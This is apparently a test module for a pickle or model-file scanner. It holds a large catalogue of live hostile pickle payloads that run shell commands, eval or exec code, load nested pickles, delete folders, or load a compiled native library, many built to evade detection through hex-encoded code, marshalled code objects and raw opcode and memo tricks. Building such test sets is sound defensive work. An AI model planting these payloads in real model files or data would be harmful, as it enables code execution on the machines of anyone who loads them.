"""Ways in which a pickle runs something, each a node that leaves its name in the canary when it is unpickled.

Every one of them is executed by `test_the_payloads_are_live`, so none is a sham.
"""

from __future__ import annotations

import marshal
import os
import shutil
import struct
import subprocess
from collections.abc import Callable
from dataclasses import dataclass

from tests.hostile.opcodes import Build, Call, Name, New, Node, Raw, Then, call, glob, partial, program
from tests.hostile.site import Site

ALL = (0, 2, 4, 5)


@dataclass(frozen=True)
class Payload:
    """One way of running something.

    Attributes:
        node: what the pickle builds, for a place.
        why: what it uses, for the reader of a failed test.
        protocols: of pickle in which it works.
        executes: the reader that makes it act.
    """

    node: Callable[[Site], Node]
    why: str
    protocols: tuple[int, ...] = ALL
    executes: str = "pickle"


def system(site: Site) -> Node:
    """The classic."""
    return call("posix.system", site.shell)


def stage_two(site: Site, suffix: str = "-stage2.pkl") -> str:
    """A second hostile pickle, which the first one only names."""
    return str(site.plant(suffix, program(system(site))))


def script(site: Site, suffix: str = ".py") -> str:
    """A Python file that leaves the name when it runs."""
    return str(site.plant(suffix, site.python + "\n"))


def function_code(site: Site) -> bytes:
    """A code object, as `marshal` writes it."""
    return marshal.dumps(compile(site.python, "weights", "eval"))


def method(what: Node, name: str, *arguments: Node) -> Call:
    """`what.name(*arguments)` through `getattr`."""
    return Call(call("builtins.getattr", what, name), arguments)


PROCESSES = {
    "os-system": Payload(lambda s: call("os.system", s.shell), "os.system"),
    "posix-system": Payload(system, "the name under which pickle writes os.system"),
    "subprocess-popen": Payload(lambda s: call("subprocess.Popen", ["sh", "-c", s.shell]), "subprocess.Popen"),
    "subprocess-call-shell": Payload(
        lambda s: Call(partial("subprocess.call", shell=True), (s.shell,)), "subprocess.call with shell=True"
    ),
    "subprocess-getoutput": Payload(lambda s: call("subprocess.getoutput", s.shell), "subprocess.getoutput"),
    "py2-commands": Payload(lambda s: call("commands.getoutput", s.shell), "Python 2's name of a module", (0, 2)),
    "os-popen": Payload(lambda s: method(call("os.popen", s.shell), "read"), "os.popen"),
    "os-spawn": Payload(lambda s: call("os.spawnlp", 0, "sh", "sh", "-c", s.shell), "os.spawnlp"),
    "posix-fork-exec": Payload(
        lambda s: call("os.posix_spawn", "/bin/sh", ["sh", "-c", s.shell], {}), "os.posix_spawn"
    ),
    "pty-spawn": Payload(lambda s: call("pty.spawn", ["sh", "-c", s.shell]), "pty.spawn"),
    "asyncio-thread": Payload(
        lambda s: call("asyncio.run", call("asyncio.to_thread", glob("os.system"), s.shell)), "asyncio"
    ),
    "webbrowser": Payload(
        lambda s: method(call("webbrowser.get", f"sh -c '{s.shell}' %s"), "open", "x:y"), "a browser that is a shell"
    ),
    "ctypes-libc": Payload(
        lambda s: Call(call("builtins.getattr", call("ctypes.CDLL", None), "system"), (s.shell.encode(),)),
        "the C library's system(), past every Python function",
    ),
    "pydoc-pager": Payload(lambda s: call("pydoc.pipepager", "x", s.shell), "a pager of the standard library"),
    "imaplib-stream": Payload(lambda s: call("imaplib.IMAP4_stream", s.shell), "an IMAP server behind a command"),
    "osx-support": Payload(lambda s: call("_osx_support._read_output", s.shell), "a private helper that runs a shell"),
    "uuid-stdout": Payload(
        lambda s: call("uuid._get_command_stdout", "sh", "-c", s.shell), "a private helper of uuid that runs a command"
    ),
    "distutils-spawn": Payload(lambda s: call("distutils.spawn.spawn", ["sh", "-c", s.shell]), "distutils"),
    "torch-collect-env": Payload(
        lambda s: call("torch.utils.collect_env.run", s.shell), "a function of torch's own that runs a shell"
    ),
    "posix-then-garbage": Payload(
        lambda s: Then((system(s), glob("no.such_name"))), "runs first, then fails: nothing is ever returned"
    ),
}

EVALUATIONS = {
    "eval": Payload(lambda s: call("builtins.eval", s.python), "builtins.eval"),
    "exec": Payload(lambda s: call("builtins.exec", s.python), "builtins.exec"),
    "py2-builtin": Payload(lambda s: call("__builtin__.eval", s.python), "Python 2's name of builtins", (0, 2)),
    "compile-exec": Payload(
        lambda s: call("builtins.exec", call("builtins.compile", s.python, "x", "exec")), "compile, then exec"
    ),
    "code-interpreter": Payload(
        lambda s: method(call("code.InteractiveInterpreter"), "runsource", s.python), "code.InteractiveInterpreter"
    ),
    "timeit": Payload(lambda s: call("timeit.timeit", s.python, "pass", glob("time.time"), 1), "timeit.timeit"),
    "cprofile": Payload(lambda s: call("cProfile.run", s.python), "cProfile.run"),
    "profile": Payload(lambda s: call("profile.run", s.python), "profile.run"),
    "pdb": Payload(lambda s: call("pdb.run", s.python), "pdb.run"),
    "bdb": Payload(lambda s: method(call("bdb.Bdb"), "run", s.python), "bdb.Bdb"),
    "trace": Payload(lambda s: method(call("trace.Trace", 0, 0), "run", s.python), "trace.Trace"),
    "doctest": Payload(
        lambda s: call("doctest.testfile", str(s.plant(".txt", f">>> _ = {s.python}\n")), False), "doctest.testfile"
    ),
    "test-support": Payload(
        lambda s: call("test.support.script_helper.assert_python_ok", "-c", s.python), "the standard library's tests"
    ),
    "torch-exec-wrapper": Payload(
        lambda s: call("torch.jit.unsupported_tensor_ops.execWrapper", s.python, {}, {}), "torch's own exec"
    ),
    "torch-fx-source": Payload(
        lambda s: call("torch.fx.graph_module.reduce_graph_module", {"_code": f"\n{s.python}\n"}, ""),
        "how torch.fx rebuilds a GraphModule: it compiles text",
    ),
    "numpy-runstring": Payload(
        lambda s: call("numpy.testing._private.utils.runstring", s.python, {}), "numpy's own exec"
    ),
    "numpy-f2py": Payload(lambda s: call("numpy.f2py.crackfortran.myeval", s.python), "numpy's own eval"),
    "codecs-rot13": Payload(
        lambda s: call("builtins.eval", call("codecs.decode", s.python.encode().hex().encode(), "hex")),
        "the program is hidden as hex digits",
    ),
    "marshal-function": Payload(
        lambda s: Call(call("types.FunctionType", call("marshal.loads", function_code(s)), {}), ()),
        "a code object, without any name of what it does",
    ),
    "code-type": Payload(lambda s: Call(call("types.FunctionType", _code_type(s), {}), ()), "types.CodeType by hand"),
    "jinja": Payload(
        lambda s: method(
            call("jinja2.Template", "{{ cycler.__init__.__globals__.os.system(c) }}"), "render", {"c": s.shell}
        ),
        "a template that reaches os",
    ),
}

IMPORTS = {
    "runpy": Payload(lambda s: call("runpy.run_path", script(s)), "runpy.run_path"),
    "importlib": Payload(
        lambda s: Then(
            (
                call("site.addsitedir", os.path.dirname(script(s))),  # noqa: PTH120 - text of the payload
                call("importlib.import_module", s.name.replace("-", "_")),
            )
        ),
        "a module that lies beside the file",
    ),
    "site-pth": Payload(
        lambda s: call("site.addsitedir", str(s.plant("-site/x.pth", f"import os; {s.python}\n").parent)),
        "a .pth file, whose lines Python runs",
    ),
    "module-name": Payload(
        lambda s: Then(
            (
                call("site.addsitedir", os.path.dirname(script(s))),  # noqa: PTH120
                Name(s.name.replace("-", "_"), "x"),
            )
        ),
        "only a global: naming it imports a planted module",
    ),
    "torch-hub": Payload(
        lambda s: Call(
            partial("torch.hub.load", source="local"), (str(s.plant("-hub/hubconf.py", s.python).parent), "m")
        ),
        "torch.hub.load of a folder",
    ),
    "pkgutil-resolve": Payload(
        lambda s: Call(call("pkgutil.resolve_name", "os:system"), (s.shell,)), "a name that is text"
    ),
    "logging-resolve": Payload(
        lambda s: Call(call("logging.config._resolve", "os.system"), (s.shell,)), "a name that is text"
    ),
    "native-library": Payload(lambda s: call("ctypes.CDLL", shared_library(s)), "a shared library's constructor"),
    "pip-main": Payload(
        lambda s: call("pip.main", ["cache", "dir", "--log", str(s.canary)]), "pip, which writes a log anywhere"
    ),
}

NESTED = {
    "pickle-loads": Payload(lambda s: call("pickle.loads", program(system(s))), "a pickle in a pickle"),
    "c-pickle-py2": Payload(lambda s: call("cPickle.loads", program(system(s))), "Python 2's name of it", (0, 2)),
    "torch-load": Payload(
        lambda s: Call(partial("torch.load", weights_only=False), (stage_two(s),)), "torch.load of another file"
    ),
    "torch-load-from-bytes": Payload(
        lambda s: call("torch.storage._load_from_bytes", program(system(s))), "how torch pickles a storage"
    ),
    "torch-decoder": Payload(
        lambda s: call("torch.utils.data.datapipes.utils.decoder.basichandlers", "pyd", program(system(s))),
        "torch's decoder of WebDataset members",
    ),
    "joblib-load": Payload(lambda s: call("joblib.load", stage_two(s)), "joblib.load of another file"),
    "numpy-load": Payload(lambda s: call("numpy.load", stage_two(s), None, True), "numpy.load with allow_pickle"),
    "jit-load": Payload(
        lambda s: call("torch.jit.load", _writing_script(s)), "torch.jit.load of a program that writes a file"
    ),
}

INDIRECT = {
    "getattr-chain": Payload(
        lambda s: method(call("builtins.__import__", "os"), "system", s.shell), "getattr over an import"
    ),
    "getattr-joined": Payload(
        lambda s: method(call("builtins.__import__", "os"), call("operator.concat", "sys", "tem"), s.shell),
        "the name is put together at load time",
    ),
    "attrgetter": Payload(
        lambda s: Call(
            Call(call("operator.attrgetter", "os.system"), (call("builtins.__import__", "torch"),)), (s.shell,)
        ),
        "operator.attrgetter over a module that imported os",
    ),
    "methodcaller": Payload(
        lambda s: Call(call("operator.methodcaller", "system", s.shell), (call("builtins.__import__", "os"),)),
        "operator.methodcaller",
    ),
    "functools-partial": Payload(lambda s: Call(partial("os.system", s.shell), ()), "functools.partial"),
    "functools-reduce": Payload(
        lambda s: Call(
            call("functools.reduce", glob("builtins.getattr"), ["system"], call("builtins.__import__", "os")),
            (s.shell,),
        ),
        "functools.reduce over getattr",
    ),
    "map-list": Payload(
        lambda s: call("builtins.list", call("builtins.map", glob("os.system"), [s.shell])), "a lazy map, and a list"
    ),
    "starmap-deque": Payload(
        lambda s: call("collections.deque", call("itertools.starmap", glob("os.system"), [(s.shell,)])),
        "collections.deque draws from a lazy call",
    ),
    "ordered-dict-map": Payload(
        lambda s: call(
            "collections.OrderedDict",
            call("builtins.map", glob("builtins.divmod"), call("builtins.map", glob("os.system"), [s.shell]), [1]),
        ),
        "collections.OrderedDict, which every state dict names, draws from a lazy call",
    ),
    "max-key": Payload(
        lambda s: Call(partial("builtins.max", key=glob("os.system")), ([s.shell, s.shell],)), "max with a key"
    ),
    "defaultdict": Payload(
        lambda s: call("operator.getitem", call("collections.defaultdict", partial("os.system", s.shell)), "x"),
        "a default factory that is a command",
    ),
    "torch-os": Payload(
        lambda s: method(glob("torch.os"), "system", s.shell), "os as an attribute of torch: the global says torch"
    ),
    "dotted-torch": Payload(
        lambda s: Call(Name("torch.serialization", "os.system"), (s.shell,)), "a dotted name within torch", (4, 5)
    ),
    "dotted-collections": Payload(
        lambda s: method(Call(Name("collections", "_sys.modules.__getitem__"), ("os",)), "system", s.shell),
        "a dotted name within collections",
        (4, 5),
    ),
    "atexit": Payload(lambda s: call("atexit.register", glob("os.system"), s.shell), "runs when the process ends"),
    "weakref-finalize": Payload(
        lambda s: call("weakref.finalize", call("collections.OrderedDict"), glob("os.system"), s.shell),
        "runs when an object dies",
    ),
    "thread-timer": Payload(
        lambda s: method(call("threading.Timer", 0, glob("os.system"), [s.shell]), "start"), "runs in a thread"
    ),
    "dict-items": Payload(
        lambda s: Build(call("collections.OrderedDict"), {"items": partial("os.system", s.shell)}),
        "an OrderedDict whose items() is a command: it runs after loading",
        ALL,
        "items",
    ),
}

OPCODES = {
    "inst": Payload(lambda s: Raw(b"(" + _quoted(s.shell) + b"iposix\nsystem\n"), "the INST opcode"),
    "obj": Payload(lambda s: Raw(b"(cposix\nsystem\n" + _quoted(s.shell) + b"o"), "the OBJ opcode"),
    "newobj": Payload(
        lambda s: New(glob("builtins.tuple"), (New(glob("builtins.map"), (glob("os.system"), [s.shell])),)),
        "NEWOBJ alone, without REDUCE",
        (2, 4, 5),
    ),
    "newobj-ex": Payload(
        lambda s: Call(New(glob("functools.partial"), (glob("subprocess.call"), s.shell), {"shell": True}), ()),
        "NEWOBJ_EX with keywords",
        (4, 5),
    ),
    "reconstructor": Payload(
        lambda s: call(
            "copyreg._reconstructor", glob("subprocess.Popen"), glob("subprocess.Popen"), ["sh", "-c", s.shell]
        ),
        "copyreg._reconstructor, which protocol 0 uses for every object",
    ),
    "copyreg-newobj": Payload(
        lambda s: call(
            "builtins.tuple", call("copyreg.__newobj__", glob("builtins.map"), glob("os.system"), [s.shell])
        ),
        "copyreg.__newobj__",
    ),
    "build-setstate": Payload(
        lambda s: Build(Build(call("types.SimpleNamespace"), {"__setstate__": glob("os.system")}), s.shell),
        "BUILD gives an object a __setstate__, and calls it",
    ),
    "ext": Payload(
        lambda s: Then((call("copyreg.add_extension", "posix", "system", 240), Call(Raw(b"\x82\xf0"), (s.shell,)))),
        "EXT1: a number instead of a name",
        (2, 4, 5),
    ),
    "ext4": Payload(
        lambda s: Then(
            (
                call("copyreg.add_extension", "posix", "system", 70000),
                Call(Raw(b"\x84" + struct.pack("<i", 70000)), (s.shell,)),
            )
        ),
        "EXT4: a number instead of a name",
        (2, 4, 5),
    ),
    "memo-shuffled": Payload(
        lambda s: _memo_shuffled(s), "STACK_GLOBAL on strings from the memo, out of order", (4, 5)
    ),
    "memo-overwritten": Payload(
        lambda s: _memo_overwritten(s), "STACK_GLOBAL on a string whose memo slot was overwritten", (4, 5)
    ),
    "dup": Payload(lambda s: Raw(b"cposix\nsystem\n2" + _quoted(s.shell) + b"\x85R"), "DUP below the call", (2, 4, 5)),
    "long-memo": Payload(
        lambda s: Raw(b"cposix\nsystem\nr\x00\x01\x00\x000j\x00\x01\x00\x00" + _quoted(s.shell) + b"\x85R"),
        "the function comes out of the memo, long after its name",
        (2, 4, 5),
    ),
    "hex-integer": Payload(
        lambda s: Then((Raw(b"I0x1\n"), system(s))), "an integer in hex: pickle reads it, pickletools stops", (0, 2)
    ),
    "text-opcodes-in-4": Payload(
        lambda s: Raw(b"(" + _quoted(s.shell) + b"iposix\nsystem\n"), "opcodes of protocol 0 in a pickle of 4", (4, 5)
    ),
    "rebuild-from-type": Payload(
        lambda s: call("torch._tensor._rebuild_from_type_v2", glob("os.system"), glob("torch.Tensor"), (s.shell,), {}),
        "torch's rebuilding function, which calls what it is given",
    ),
}

FILES = {
    "open-for-writing": Payload(lambda s: call("builtins.open", str(s.canary), "a"), "opens a file for writing"),
    "pathlib-write": Payload(
        lambda s: method(call("pathlib.Path", str(s.canary)), "write_text", s.name), "writes a file"
    ),
    "shutil-copy": Payload(
        lambda s: call("shutil.copyfile", str(s.plant(".txt", s.name)), str(s.canary)), "copies a file"
    ),
    "shutil-rmtree": Payload(
        lambda s: Then(
            (
                call("shutil.rmtree", str(s.plant("-victim/file", "").parent), True),
                call("shutil.copyfile", str(s.plant(".txt", s.name)), str(s.canary)),
            )
        ),
        "deletes a folder",
    ),
    "urllib": Payload(
        lambda s: call("urllib.request.urlretrieve", f"data:text/plain,{s.name}", str(s.canary)), "fetches a file"
    ),
    "socket": Payload(
        lambda s: Call(partial("socket.create_server", family=1), (str(s.canary),)), "opens a socket, which is a file"
    ),
    "logging-file": Payload(lambda s: call("logging.FileHandler", str(s.canary)), "a log handler opens its file"),
    "numpy-memmap": Payload(
        lambda s: call("numpy.memmap", str(s.canary), "u1", "w+", 0, (8,)), "numpy.memmap makes a file"
    ),
    "torch-from-file": Payload(
        lambda s: call("torch.from_file", str(s.canary), True, 8), "torch.from_file makes a file"
    ),
    "torch-save": Payload(lambda s: call("torch.save", s.name, str(s.canary)), "torch.save writes a file"),
}

PAYLOADS: dict[str, Payload] = PROCESSES | EVALUATIONS | IMPORTS | NESTED | INDIRECT | OPCODES | FILES


def _quoted(text: str) -> bytes:
    """STRING of protocol 0."""
    return b"S" + repr(text).encode() + b"\n"


def _memo_shuffled(site: Site) -> Node:
    """The names are put into the memo backwards, and the last strings before STACK_GLOBAL are harmless ones."""
    words = (b"system", b"posix", b"json", b"loads")
    kept = b"".join(b"\x8c%c%bq%c0" % (len(word), word, slot) for slot, word in enumerate(words, start=200))
    return Raw(kept + b"h\xc9h\xc8\x93" + _quoted(site.shell) + b"\x85R")


def _memo_overwritten(site: Site) -> Node:
    """Slot 0 holds `loads` at first, and `system` when it is used."""
    words = b"\x8c\x05posixq\x010\x8c\x05loadsq\x000\x8c\x06systemq\x000"
    return Raw(words + b"h\x01h\x00\x93" + _quoted(site.shell) + b"\x85R")


def _code_type(site: Site) -> Node:
    """The constructor of a code object, with every field spelt out."""
    made = compile(site.python, "weights", "eval")
    fields = (
        made.co_argcount, made.co_posonlyargcount, made.co_kwonlyargcount, made.co_nlocals, made.co_stacksize,
        made.co_flags, made.co_code, made.co_consts, made.co_names, made.co_varnames, made.co_filename, made.co_name,
        made.co_qualname, made.co_firstlineno, made.co_linetable, made.co_exceptiontable, made.co_freevars,
        made.co_cellvars,
    )  # fmt: skip
    return call("types.CodeType", *fields)


def _writing_script(site: Site) -> str:
    from tests.hostile.programs import script_that_writes

    return str(script_that_writes(site.plant(".ts", b""), site.canary, when="load"))


def shared_library(site: Site) -> str:
    """A native library whose constructor leaves the name; empty where there is no C compiler."""
    path = site.plant(".so", b"")
    source = site.plant(".c", _SOURCE % (str(site.canary), site.name))
    compiler = shutil.which("cc")
    if compiler:
        subprocess.run([compiler, "-shared", "-fPIC", "-o", path, source], check=True)
    return str(path)


_SOURCE = """
#include <stdio.h>
__attribute__((constructor)) static void run(void) {
    FILE *file = fopen("%s", "a");
    if (file) { fputs("%s\\n", file); fclose(file); }
}
"""
